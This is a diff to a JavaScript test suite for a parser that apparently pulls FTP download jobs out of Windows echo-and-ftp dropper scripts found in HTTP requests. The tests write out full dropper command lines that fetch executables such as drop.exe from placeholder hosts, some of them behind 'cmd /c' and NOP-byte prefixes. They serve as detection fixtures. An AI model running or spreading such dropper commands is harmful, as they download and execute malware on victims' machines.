@@ -17,6 +17,15 @@ describe('parseFtpScript: Windows echo scripts', () => {
     expect(jobs).toEqual([{ host: '203.0.113.5', port: 21, user: 'anonymous', password: 'x', files: ['mal.exe'], localNames: ['mal.exe'], modeHint: 'active' }])
   })
 
+  it('finds a script that comes after other bytes: an HTTP header, filler, a query parameter', () => {
+    const script = 'echo open 203.0.113.5 2121 > o&echo user anonymous x >> o&echo get drop.exe >> o&ftp -n -s:o'
+    for (const prefix of ['X-Ftp: cmd /c ', 'X-Ftp: ', '\x90\x90\x90 cmd.exe /c ', 'GET /?x=', 'AAAA"']) {
+      expect(parse(`GET / HTTP/1.1\r\n${prefix}${script}\r\n\r\n`).map((j) => [j.host, j.port, j.files]), prefix).toEqual([['203.0.113.5', 2121, ['drop.exe']]])
+    }
+    // Words that merely contain "echo" or "ftp" are not commands.
+    expect(parse('Xecho open 203.0.113.5 > o&echo get a >> o&sftp -s:o')).toEqual([])
+  })
+
   it('reads redirections without spaces, USER then PASS lines, and a port', () => {
     expect(summary('echo open 198.51.100.7 2121>>f&echo USER bob>>f&echo PASS s3cret>>f&echo bin>>f&echo get a.exe>>f&echo bye>>f&ftp -n -s:f')).toEqual(['198.51.100.7:2121 bob/s3cret [a.exe]'])
   })
